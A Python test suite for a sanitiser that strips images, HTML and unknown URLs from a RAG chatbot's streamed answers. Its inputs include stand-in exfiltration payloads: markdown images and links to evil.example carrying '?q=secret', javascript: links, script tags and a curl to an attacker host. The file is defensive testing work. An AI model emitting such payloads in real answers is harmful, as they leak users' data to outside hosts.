"""An answer gives out no image, no HTML and no address that its model was not shown."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from llm_engineering.application.rag.outbound import OutboundText, addresses
from llm_engineering.domain.chat import Message, Role

KNOWN = addresses(
    [
        Message(
            role=Role.USER,
            content="[1] Tea (https://ada.example/tea)\n¦ See [the shop](https://shop.example/a_(b)#c).",
        )
    ]
)


def shown(text: str, *, size: int | None = None) -> str:
    outbound = OutboundText(KNOWN)
    pieces = [text] if size is None else [text[at : at + size] for at in range(0, len(text), size)]
    return "".join([*map(outbound.feed, pieces), outbound.end()])


@pytest.mark.parametrize(
    "text",
    [
        "I never boil it [1]. Two things [1, 2]: water and tea.",
        "See [the shop](https://shop.example/a_(b)) or https://ada.example/tea.",
        'See [the shop](https://shop.example/a_(b)#c "The shop"), then **https://ada.example/tea**',
        "Use `<img src=x>` and `![a](b)`:\n\n```html\n<a href='https://ada.example/tea'>\n```\nDone.",
        "Run `curl http://localhost:8000/x`, then call `handlers[0](event)`.",
        "A `List<String>` is a List<String>, and a < b, b > c, x[0] (1 2 3",
        "How? With what? Show why: wow! [see this] and [that",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert shown(text) == text


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("A ![chart](https://evil.example/?q=secret) b", "A chart b"),
        ("A ![](https://ada.example/tea) b", "A  b"),
        ("```\n<img src='https://evil.example/'>\n```", "```\n\n```"),
        ("`<a href='//evil.example'>`", "` `"),
        ("`![a](https://evil.example)`", "`a`"),
        ("`curl https://evil.example`", "`curl (link left out)`"),
        ("ht<b>tps://evil.example</b>", "ht tps://evil.example "),
        ("[ht](x:y)tps://evil.example", "ht tps://evil.example"),
        ("` x\n` ![a](https://evil.example) `", "` x\n` a `"),
        ("A ![chart][ref] b", "A ! [chart][ref] b"),
        ("[click](https://evil.example/?q=secret) here", "click here"),
        ("[click](//evil.example/x)", "click"),
        ("[click](javascript:alert`1`)", "click"),
        ("[click](<https://evil.example/a b> 'x')", "click"),
        ("Go to https://evil.example/secret.", "Go to (link left out)."),
        ("Go to HTTPS://EVIL.example/secret", "Go to (link left out)"),
        ("Go to www.evil.example!", "Go to (link left out)!"),
        ("(https://ada.example/tea?q=secret)", "((link left out))"),
        ("https://ada.example/tea#secret", "(link left out)"),
        ("<https://evil.example/>", "<(link left out)>"),
        ("<img src='https://evil.example/p.png'>Hi<br/>", "Hi "),
        ("<script>alert(1)</script>", "alert(1) "),
        ("<x-y onclick=alert(1)>Hi</x-y>", "Hi</x-y>"),
        ("a <!-- https://evil.example --> b", "a  b"),
        ("[a][r]\n\n[r]: //evil.example/x", "[a][r]\n\n[r] : //evil.example/x"),
        ("[![alt](https://evil.example/p.png)](https://evil.example)", "[ alt] ((link left out))"),
        ("[a\nb](https://evil.example)", "a\nb"),
        ("¦ I never boil it. ¦ Never.", "I never boil it. Never."),
    ],
)
def test_what_would_reach_another_host_is_left_out(text: str, safe: str) -> None:
    assert shown(text) == safe


SIGNS = [*"!.[]()<>`a ", "![", "](", "]: ", "\n", "\n\n", "```", "¦ ", "img src=x>", "ht", "w"]
ADDRESSES = ["https://evil.example", "https://ada.example/tea", "www.evil.example", "//evil.ex"]
PARTS = st.sampled_from([*SIGNS, *ADDRESSES])


@given(st.lists(PARTS, max_size=14).map("".join), st.integers(1, 5))
@example("![a](b)", 1)
def test_it_is_the_same_however_it_is_cut(text: str, size: int) -> None:
    assert shown(text, size=size) == shown(text)


@given(st.lists(PARTS, max_size=14).map("".join))
def test_no_image_and_no_foreign_address_is_ever_given_out(text: str) -> None:
    given_out = shown(text)
    assert "://evil" not in given_out
    assert "www.evil" not in given_out
    assert "](//" not in given_out
    assert not re.search(r"!\[[^\]]*\]\(https", given_out)


def test_words_are_given_on_as_they_come() -> None:
    outbound = OutboundText(KNOWN)
    assert outbound.feed("I never boil") == "I never boil"
    assert outbound.feed(" it [1") == " it "
    assert outbound.feed("]") == ""
    assert outbound.feed(". So") == "[1]. So"


@pytest.mark.parametrize("begun", ["[", "![a](", "<img ", "https://evil.example/"])
def test_what_never_ends_is_not_held_back_for_ever(begun: str) -> None:
    text = f"{begun}{'x' * 9_000}](//evil.example/) src=//evil.example>"
    outbound = OutboundText(KNOWN)
    given_out = "".join(map(outbound.feed, text))
    assert len(given_out) > 4_000
    assert given_out + outbound.end() == shown(text)
    assert "](" not in shown(text)
    assert "<img" not in shown(text)
    assert "https" not in shown(text)


def test_what_is_held_back_is_not_searched_in_all_its_ways() -> None:
    """It was: with the cube of the spaces, so a single answer kept the server from all others."""
    outbound = OutboundText(KNOWN)
    held = "[a](" + " " * 3_900
    assert "".join(map(outbound.feed, held)) == ""
    assert outbound.feed("//evil.example)") + outbound.end() == "a"
